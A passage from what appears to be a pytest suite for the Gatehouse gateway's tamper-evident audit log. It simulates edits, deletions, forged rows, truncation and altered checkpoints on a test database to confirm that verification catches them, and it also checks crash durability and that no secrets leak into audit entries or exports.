    g.api("GET", "/api/settings")
    assert g.stop() == 0
    err = g.last_stderr_path.read_text(errors="replace")
    bad = [line for line in err.splitlines() if " error " in line or "CancellationError" in line]
    assert not bad, "error-level lines at a clean shutdown:\n" + "\n".join(bad)


# --------------------------------------------------------------------------------------------
# Tampering with the SQLite file
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def trail(module_gatehouse, tmp_path_factory):
    """A stopped installation with a ~30-entry trail, and a pristine copy of its database."""
    g = module_gatehouse()
    pk, _ = g.create_provider_key(name="tamper-pk")
    for i in range(6):
        px = g.create_proxy_key(pk["id"], name=f"px{i}")
        g.api("PATCH", f"/api/proxy-keys/{px['id']}", json={"name": f"px{i}-renamed"})
        g.api("GET", "/api/proxy-keys")
    g.create_org_key("read", name="r1")
    g.api("PATCH", "/api/settings", json={"retention_days": 45})
    assert g.stop() == 0
    pristine = tmp_path_factory.mktemp("pristine") / "gatehouse.sqlite"
    shutil.copy2(db_path(g), pristine)
    n = db_rows(g, "SELECT max(seq) AS n FROM audit_log")[0]["n"]
    assert n >= 20
    return {"g": g, "pristine": pristine, "n": n}


def restore(trail) -> None:
    g = trail["g"]
    if g.running:
        g.stop()
    for suffix in ("-wal", "-shm", "-journal"):
        p = Path(str(db_path(g)) + suffix)
        if p.exists():
            p.unlink()
    shutil.copy2(trail["pristine"], db_path(g))


def api_verify(g) -> dict:
    """Starts the server on the (tampered) database and asks it; the first request after start."""
    g.start()
    r = g.api("GET", "/api/audit/verify")
    assert r.status_code == 200, r.text
    body = r.json()
    del r  # a response still referenced keeps its keep-alive connection, which delays a graceful stop
    g.stop()
    return body


def assert_api_agrees(g, seq: int | None, damage: str | None) -> None:
    body = api_verify(g)
    assert body.get("intact") is (seq is None), body
    assert body.get("first_broken_sequence") == seq and body.get("damage") == damage, body


def test_untouched_trail_verifies(trail):
    restore(trail)
    g = trail["g"]
    parsed = assert_verify_intact(g)
    assert parsed["entries"] == trail["n"] and parsed["last_sequence"] == trail["n"], parsed
    assert "intact" in verify_cli(g)[1].lower()
    body = api_verify(g)
    assert body["intact"] is True and body["damage"] is None and body["first_broken_sequence"] is None, body
    assert body["entries"] == trail["n"] and body["last_sequence"] == trail["n"], body


def test_edited_details_is_edited_at_that_sequence(trail):
    restore(trail)
    g = trail["g"]
    k = trail["n"] // 2
    with Tamper(g) as t:
        d = jsonlib.loads(t.row(k)["details"])
        d["tampered"] = True
        t.con.execute("UPDATE audit_log SET details = ? WHERE seq = ?", (jsonlib.dumps(d), k))
    assert_verify_broken(g, k, "edited")
    assert_api_agrees(g, k, "edited")


def test_edited_and_rehashed_entry_is_caught_at_the_next_entry(trail):
    restore(trail)
    g = trail["g"]
    k = trail["n"] // 2
    with Tamper(g) as t:
        row = dict(t.row(k))
        row["target"] = "pk_someone_else"
        new_hash = chain_hash(bytes(row["prev_hash"]), row)
        t.con.execute("UPDATE audit_log SET target = ?, hash = ? WHERE seq = ?", (row["target"], new_hash, k))
    # The verifier calls a link to a hash that is no longer in the trail "missing".
    assert_verify_broken(g, k + 1, "missing")


def test_deleted_middle_row_is_missing(trail):
    restore(trail)
    g = trail["g"]
    k = trail["n"] // 2 + 1
    with Tamper(g) as t:
        t.con.execute("DELETE FROM audit_log WHERE seq = ?", (k,))
    assert_verify_broken(g, k, "missing")
    assert_api_agrees(g, k, "missing")


def test_deleted_row_with_renumbering_is_missing(trail):
    restore(trail)
    g = trail["g"]
    k = trail["n"] // 2
    with Tamper(g) as t:
        t.con.execute("DELETE FROM audit_log WHERE seq = ?", (k,))
        t.shift(k + 1, -1)
    assert_verify_broken(g, k, "missing")


def test_inserted_forged_row_with_renumbering_is_inserted(trail):
    restore(trail)
    g = trail["g"]
    k = trail["n"] // 2
    with Tamper(g) as t:
        prev = t.row(k - 1)
        model = dict(t.row(k))
        t.shift(k, +1)
        forged = dict(model, seq=k, action="provider_key.delete", target="pk_forged", details="{}",
                      prev_hash=bytes(prev["hash"]))
        forged["hash"] = chain_hash(forged["prev_hash"], forged)  # a well-made forgery
        t.con.execute(f"INSERT INTO audit_log ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})",
                      [forged[c] for c in COLUMNS])
    assert_verify_broken(g, k, "inserted")
    assert_api_agrees(g, k, "inserted")


def test_swapped_rows_are_reordered(trail):
    restore(trail)
    g = trail["g"]
    k = trail["n"] // 2
    with Tamper(g) as t:
        a, b = dict(t.row(k)), dict(t.row(k + 1))
        cols = COLUMNS[1:]
        t.con.execute("DELETE FROM audit_log WHERE seq IN (?, ?)", (k, k + 1))
        for seq, src in ((k, b), (k + 1, a)):
            t.con.execute(f"INSERT INTO audit_log ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})",
                          [seq] + [src[c] for c in cols])
    assert_verify_broken(g, k, "reordered")
    assert_api_agrees(g, k, "reordered")


def test_truncation_is_caught_by_checkpoints(trail, tmp_path):
    restore(trail)
    g = trail["g"]
    n = trail["n"]
    cp = tmp_path / "cp.json"
    r = g.cli("audit", "checkpoint", "--out", str(cp))
    assert r.rc == 0, r
    data = jsonlib.loads(cp.read_text())
    assert data["sequence"] == n and set(data) == {"sequence", "hash", "time", "master_key_version", "signature"}, data
    tail = db_rows(g, "SELECT hash FROM audit_log WHERE seq = ?", (n,))[0]["hash"]
    assert data["hash"] == bytes(tail).hex()
    assert_verify_intact(g, "--checkpoint", str(cp))
    with Tamper(g) as t:
        t.con.execute("DELETE FROM audit_log WHERE seq > ?", (n - 3,))
    assert_verify_broken(g, n - 2, "truncated", "--checkpoint", str(cp))
    # The checkpoint stored in the database catches it too, while it is there.
    assert_verify_broken(g, n - 2, "truncated")
    assert_api_agrees(g, n - 2, "truncated")
    # Without the stored checkpoint, only the external file still proves the truncation.
    restore(trail)
    with Tamper(g) as t:
        t.con.execute("DELETE FROM audit_log WHERE seq > ?", (n - 3,))
        t.con.execute("DELETE FROM audit_checkpoints")
    assert_verify_intact(g)
    assert_verify_broken(g, n - 2, "truncated", "--checkpoint", str(cp))


def test_forged_or_altered_checkpoints_are_bad(trail, tmp_path):
    restore(trail)
    g = trail["g"]
    n = trail["n"]
    cp = tmp_path / "cp.json"
    assert g.cli("audit", "checkpoint", "--out", str(cp)).rc == 0
    # The external file moved to an earlier point of the trail (as after a rollback).
    data = jsonlib.loads(cp.read_text())
    earlier = db_rows(g, "SELECT hash FROM audit_log WHERE seq = ?", (n - 5,))[0]["hash"]
    moved = tmp_path / "moved.json"
    moved.write_text(jsonlib.dumps(dict(data, sequence=n - 5, hash=bytes(earlier).hex())))
    assert_verify_broken(g, n - 5, "bad_checkpoint", "--checkpoint", str(moved))
    # The stored checkpoint altered in the database.
    con = sqlite3.connect(db_path(g))
    con.execute("UPDATE audit_checkpoints SET hash = ?", (bytes(earlier),))
    con.commit()
    con.close()
    assert_verify_broken(g, n, "bad_checkpoint")
    # A checkpoint file that is not one.
    junk = tmp_path / "junk.json"
    junk.write_text("{}")
    r = g.cli("audit", "verify", "--checkpoint", str(junk))
    assert r.rc == 2, r
    ghtest.assert_one_error_line(r.stderr)


def test_every_stored_checkpoint_signature_is_checked(trail):
    """verifyAudit documents that every stored checkpoint's signature is checked, not only the latest."""
    restore(trail)
    g = trail["g"]
    assert g.cli("audit", "checkpoint").rc == 0
    g.start()
    g.api("GET", "/api/proxy-keys")
    g.stop()
    assert g.cli("audit", "checkpoint").rc == 0
    cps = db_rows(g, "SELECT seq FROM audit_checkpoints ORDER BY seq")
    assert len(cps) == 2, cps
    con = sqlite3.connect(db_path(g))
    con.execute("UPDATE audit_checkpoints SET signature = zeroblob(64) WHERE seq = ?", (cps[0]["seq"],))
    con.commit()
    con.close()
    assert_verify_broken(g, cps[0]["seq"], "bad_checkpoint")


def test_a_new_checkpoint_does_not_launder_a_rewritten_history(trail):
    """An attacker re-seals the chain after editing an entry; a later checkpoint (the periodic
    one, or an operator's) must not make the older signed checkpoint's statement disappear."""
    restore(trail)
    g = trail["g"]
    n = trail["n"]
    assert g.cli("audit", "checkpoint").rc == 0
    k = n // 2
    with Tamper(g) as t:
        rows = [dict(r) for r in t.con.execute(f"SELECT {', '.join(COLUMNS)} FROM audit_log WHERE seq >= ? ORDER BY seq", (k,))]
        prev = bytes(t.row(k - 1)["hash"])
        rows[0]["details"] = jsonlib.dumps({"rewritten": True})
        for r in rows:
            r["prev_hash"] = prev
            r["hash"] = chain_hash(prev, r)
            prev = r["hash"]
            t.con.execute("UPDATE audit_log SET details = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                          (r["details"], r["prev_hash"], r["hash"], r["seq"]))
    # The stored checkpoint no longer matches the re-sealed end of the trail.
    rc, out, err, parsed = verify_cli(g, "--json")
    assert rc == 2 and parsed["first_broken_sequence"] == n, parsed
    # A fresh checkpoint over the rewritten trail is refused (Gatehouse never vouches for a
    # damaged trail)...
    g.start()
    g.api("GET", "/api/settings")
    g.stop()
    refused = g.cli("audit", "checkpoint")
    assert refused.rc == 2 and "not intact" in refused.stderr, refused
    # ...and the trail still does not verify.
    rc, out, err, parsed = verify_cli(g, "--json")
    assert rc == 2, f"a rewritten history verified after a new checkpoint was signed: {parsed}"


def test_server_starts_and_serves_on_a_tampered_trail(trail):
    restore(trail)
    g = trail["g"]
    with Tamper(g) as t:
        t.con.execute("DELETE FROM audit_log WHERE seq = 3")
    g.start()
    try:
        r = g.api("GET", "/api/proxy-keys")
        assert r.status_code == 200, r.text
        r = g.api("GET", "/api/audit?limit=5")
        assert r.status_code == 200, r.text
        r = None
    finally:
        g.stop()
    assert_verify_broken(g, 3, "missing")


# --------------------------------------------------------------------------------------------
# SIGKILL durability
# --------------------------------------------------------------------------------------------


def test_sigkill_during_a_burst_loses_no_acknowledged_audit_entry(gatehouse):
    g = gatehouse()
    g.api("GET", "/api/health", key=None)
    total, workers = 100, 5
    created: list[str] = []
    lock = threading.Lock()
    done = threading.Event()
    verify = g.verify
    url = g.base_url + "/api/api-keys"
    key = g.owner_key

    def worker(w):
        with requests.Session() as s:
            for i in range(w, total, workers):
                try:
                    r = s.post(url, json={"name": f"burst-{i}", "kind": "api"}, headers=bearer(key), verify=verify,
                               timeout=5)
                except requests.RequestException:
                    return
                if r.status_code == 201:
                    body = r.json()
                    REGISTRY.add_gatehouse_key(body["key"], "burst key")
                    with lock:
                        created.append(body["id"])
                        if len(created) >= 40:
                            done.set()
    threads = [threading.Thread(target=worker, args=(w,)) for w in range(workers)]
    for t in threads:
        t.start()
    assert done.wait(30), f"only {len(created)} writes succeeded"
    os.killpg(g.proc.pid, signal.SIGKILL)
    g.proc.wait(5)
    g.proc = None
    for t in threads:
        t.join(15)
    with lock:
        acknowledged = list(created)
    assert 40 <= len(acknowledged) < total, f"the kill was not mid-burst ({len(acknowledged)} of {total})"
    g.start()
    entries = audit_all(g, action="api_key.create")
    targets = [e["target"] for e in entries]
    assert len(targets) == len(set(targets)), "an entry was written twice"
    lost = [i for i in acknowledged if i not in targets]
    assert not lost, f"{len(lost)} acknowledged writes have no audit entry, e.g. {lost[:3]}"
    # Change and entry commit together: every key that exists has its entry and vice versa.
    keys = {k["id"] for k in g.api("GET", "/api/api-keys").json()["data"] if k["name"].startswith("burst-")}
    assert keys == set(targets)
    g.stop()
    assert_verify_intact(g)


# --------------------------------------------------------------------------------------------
# Last, on the shared server: by now the minute of the early failures is over; no secret anywhere
# --------------------------------------------------------------------------------------------


def test_auth_failures_are_written_once_their_minute_is_over(inst, early_failures):
    """Failures fired at the start of the module: one entry per org/IP/minute, without a restart."""
    started = early_failures["started"]
    minute_end = (int(started // 60) + 1) * 60
    deadline = max(minute_end + 5 + 1 + 3, time.time() + 1)  # flush runs every 5 s

    def rows(action):
        return db_rows(inst, "SELECT * FROM audit_log WHERE action = ? ORDER BY seq", (action,))

    def counts():
        return {p: sum(jsonlib.loads(r["details"])["count"] for r in rows(f"{p}.auth_failed"))
                for p in ("api", "gateway")}
    while time.time() < deadline and counts() != early_failures["counts"]:
        time.sleep(0.5)
    assert counts() == early_failures["counts"], f"after the minute was over: {counts()}"
    for p in ("api", "gateway"):
        for r in rows(f"{p}.auth_failed"):
            d = jsonlib.loads(r["details"])
            assert r["outcome"] == "denied" and r["client_ip"] == "127.0.0.1" and r["actor_kind"] == "anonymous", dict(r)
            assert sum(d["reasons"].values()) == d["count"], d
    # One entry per minute bucket.
    minutes = [jsonlib.loads(r["details"])["minute_start"] for r in rows("api.auth_failed")]
    assert len(minutes) == len(set(minutes)), minutes
    used = audit_all(inst, action="gateway.revoked_key_used", target=early_failures["revoked_id"])
    assert sum(e["details"]["count"] for e in used) == early_failures["revoked_uses"], used
    for e in used:
        check_entry(e, action="gateway.revoked_key_used", actor_kind="anonymous", actor_id="",
                    target=early_failures["revoked_id"], outcome="denied")


def test_no_secret_in_any_audit_entry_or_export(inst, registry):
    """Every canary of the session (provider keys, Gatehouse keys, passwords, master keys)."""
    kinds = {c.kind for c in registry.canaries.values()}
    assert {"provider", "gatehouse"} <= kinds, kinds
    for fmt in ("jsonl", "csv"):
        for what in ("audit", "requests"):
            r = raw(inst, "GET", f"/api/export?what={what}&format={fmt}", headers=bearer(inst.owner_key), timeout=30)
            assert r.status_code == 200
            assert_no_secrets(r.content, f"{what} export ({fmt})")
    rows = db_rows(inst, "SELECT * FROM audit_log")
    for row in rows:
        assert_no_secrets(" ".join(str(row[c]) for c in COLUMNS[:10]).encode(), f"audit row {row['seq']}")
